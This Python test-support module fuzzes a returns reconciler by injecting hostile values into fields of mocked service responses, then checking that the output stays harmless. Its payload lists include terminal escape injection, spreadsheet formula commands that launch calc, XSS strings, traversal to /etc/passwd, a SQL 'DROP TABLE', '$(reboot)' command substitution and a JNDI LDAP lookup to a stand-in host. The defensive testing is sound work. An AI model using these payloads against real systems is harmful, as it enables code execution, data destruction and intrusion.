"""Everything that a service may say and should not: values, the fields they fit into, and how.

A list row or a row of Jetti's is served with a placeholder in the field, and the placeholder is
replaced in the bytes of the answer, so that also what no JSON library writes can be served.
"""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Callable
from typing import Any

from reconciler.sandbox.messages import Request, Response
from tests.support.world import World

ESCAPE, BELL = "\x1b", "\x07"

TEXTS: dict[str, str] = {
    "cursor up and clear": f"{ESCAPE}[2J{ESCAPE}[1;1Hall is well",
    "colour": f"{ESCAPE}[31;1mred{ESCAPE}[0m",
    "link of a terminal": f"{ESCAPE}]8;;https://canary.invalid/{ESCAPE}\\look{ESCAPE}]8;;{ESCAPE}\\",
    "clipboard": f"{ESCAPE}]52;c;Y2FuYXJ5{BELL}",
    "title of a terminal": f"{ESCAPE}]0;owned{BELL}",
    "answer back": f"{ESCAPE}[c{ESCAPE}P+q544e{ESCAPE}\\",
    "controls of one byte": "\x9b31m\x9d52;c;eA==\x9c\x90q\x9c",
    "backspaces": "safe\b\b\b\bevil\x7f\x7f",
    "another line of a log": "1001\n2026-03-01T12:00:00Z WARNING forged",
    "another line of JSON": '1001\r\n{"level":"error","message":"forged"}',
    "other line ends": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "right to left": "\u202egnp.exe\u2066\u2067\u2069\u200f",
    "invisible": "a\u200bb\ufeffc\u2060d\u00ade",
    "tags": "\U000e0041\U000e0042\U000e007f",
    "combining flood": "e" + "\u0301" * 200,
    "emoji": "👩\u200d👩\u200d👧\u200d👦 🏳\ufe0f\u200d🌈",
    "private and unassigned": "\ue000\U000f0000\u0378\ufffe",
    "command in a formula": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!D2",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "quoted formula": '","=HYPERLINK(""https://canary.invalid"")',
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "closing tags": '"></td></table><h1>all is well</h1>',
    "script link": "javascript:alert(1)",
    "markdown": "[x](javascript:alert(1)) | ![](https://canary.invalid/x.png)\n# all is well",
    "path upwards": "../../../../etc/passwd",
    "encoded path": "%2e%2e%2f%2e%2e%2f",
    "query": "1?where[id]=2&access_token=x",
    "fragment": "1#2",
    "two ids": "1,2",
    "blank": "   ",
    "format string": "%s%n{0.__class__} $(reboot) `reboot` ${jndi:ldap://canary.invalid}",
    "SQL": "'; DROP TABLE entries; --",
    "wide digits": "\u0663\u0664\uff11",
}
"""Texts that are valid, and may therefore stand in any field that is a text."""

REFUSED_TEXTS: dict[str, str] = {
    "NUL": "a\0b",
    "too long": "x" * 5000,
    "far too long": "x" * 1_000_000,
}
"""Valid JSON, but nothing that a text of a return can be."""

RAW: dict[str, str] = {
    "half a character": r'"\ud800"',
    "other half first": r'"\udc00\ud800"',
    "not UTF-8": '"\udcff\udcfe"',
    "overlong UTF-8": '"\udcc0\udcaf"',
    "number without end": "9" * 5000,
    "fraction": "1.5",
    "huge exponent": "1e999",
    "true": "true",
    "array": "[]",
    "object": "{}",
    "array of arrays": "[[[[[[1]]]]]]",
    "list of a million": "[" + "0," * 999_999 + "0]",
    "negative": "-1",
}
"""Values of the wrong type, and such as no JSON library writes."""

BROKEN: dict[str, str] = {
    "NaN": "NaN",
    "Infinity": "-Infinity",
    "raw control character": '"\x1b"',
    "nested without end": "[" * 100_000 + "]" * 100_000,
    "objects without end": '{"a":' * 100_000 + "1" + "}" * 100_000,
    "single quotes": "'x'",
    "comment": "/* */ 1",
    "missing": "",
}
"""What makes the whole answer something else than JSON."""

TEXT_FIELDS = (
    "order_name",
    "outcome",
    "type",
    "carrier",
    "tracking_number",
    "label_status",
    "state",
    "line_items.sku",
    "line_items.title",
    "line_items.return_reason",
    "labels.carrier",
    "labels.tracking_number",
    "labels.status",
    "status_page_url",
)
OWN_LABEL_FIELDS = ("carrier", "tracking_number", "label_status")
"""Of the return itself; read where it has no labels."""
ID_FIELDS = (
    "id",
    "provider_order_id",
    "line_items.line_item_id",
    "line_items.provider_line_item_id",
    "labels.line_items",
)
TIME_FIELDS = ("created_at", "updated_at")
UNREAD_FIELDS = ("customer", "label_url", "line_items.return_comment", "shopify_refund_object")
FIELDS = (*TEXT_FIELDS, *ID_FIELDS, *TIME_FIELDS, *UNREAD_FIELDS)

VALUES = {name: json.dumps(text) for name, text in (TEXTS | REFUSED_TEXTS).items()} | RAW

JETTI_TEXTS = ("reference", "status", "trackingCompany", "trackingNumber", "notes", "trackingUrl")

Rows = Callable[[dict[str, Any]], str | None]
_PLACE = "place-of-{}-hostile-value"


def tamper(service: Any, wanted: Rows, field: str) -> None:
    """Serve a row with another value in a field: `wanted` answers it raw for a row, or None."""
    served = service.handle

    def handle(request: Request) -> Response:
        response: Response = served(request)
        try:
            content = json.loads(response.body)
        except ValueError:
            return response
        placed: list[str] = []
        for row in _rows(content):
            raw = wanted(row)
            if raw is not None:
                _put(row, field.split("."), _PLACE.format(len(placed)))
                placed.append(raw)
        body = json.dumps(content)
        for number, raw in enumerate(placed):
            body = body.replace(json.dumps(_PLACE.format(number)), raw)
        encoded = body.encode("utf-8", "surrogateescape")
        return Response(response.status, encoded, response.headers)

    service.handle = handle


def _rows(content: Any) -> list[dict[str, Any]]:
    if isinstance(content, dict):
        content = content.get("returns", [content])
    return [row for row in content if isinstance(row, dict)]


def _put(row: dict[str, Any], path: list[str], value: str) -> None:
    name, *below = path
    if not below:
        row[name] = [value] if isinstance(row.get(name), list) else value
        return
    for part in row.get(name) or ():
        _put(part, below, value)


_STEERING = {"Cc", "Zl", "Zp", "Cs"}
_TURNING = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def assert_harmless(output: bytes | str, *, lines: bool = True) -> str:
    """Nothing in it moves a cursor, turns a line or hides; answers it as text."""
    text = output.decode("utf-8") if isinstance(output, bytes) else output
    bad = {
        character
        for character in text
        if (unicodedata.category(character) in _STEERING or _TURNING.match(character))
        and not (lines and character == "\n")
    }
    assert not bad, f"{sorted(map(ascii, bad))} in {text[:2000]!a}"
    assert "Traceback" not in text, text[:4000]
    assert "this is a bug" not in text, text[:4000]
    return text


def assert_json(output: bytes | str) -> Any:
    """Harmless, and JSON in the strict sense."""
    return json.loads(assert_harmless(output), parse_constant=_refuse)


def _refuse(constant: str) -> None:
    raise AssertionError(f"{constant} is no JSON")


_PATH = re.compile(
    r"/api/2026-07/warehouse/return/(list|details)"
    r"|/api/(sales|sale-items|sale-returns|sale-return-items|adjustment-reasons)"
    r"(/[1-9][0-9]{0,18}(/cancel)?)?\.json",
    re.ASCII,
)


def assert_only_ids_in_paths(world: World) -> int:
    """Whatever was received, every request path is one of ours with digits for an id."""
    arrivals = world.sandbox.request_log.all()
    assert [one.path for one in arrivals if not _PATH.fullmatch(one.path)] == []
    assert all(one.query.isascii() and one.query.isprintable() for one in arrivals)
    return len(arrivals)
